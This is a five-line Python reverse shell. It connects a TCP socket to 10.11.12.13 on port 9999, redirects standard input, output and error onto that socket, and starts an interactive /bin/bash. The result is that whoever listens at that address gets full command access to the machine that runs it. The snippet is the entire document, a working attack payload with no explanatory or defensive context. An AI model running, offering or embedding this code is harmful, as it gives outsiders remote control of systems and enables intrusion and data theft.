import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("10.11.12.13", 9999))
[os.dup2(s.fileno(), i) for i in range(3)]
subprocess.call(["/bin/bash", "-i"])
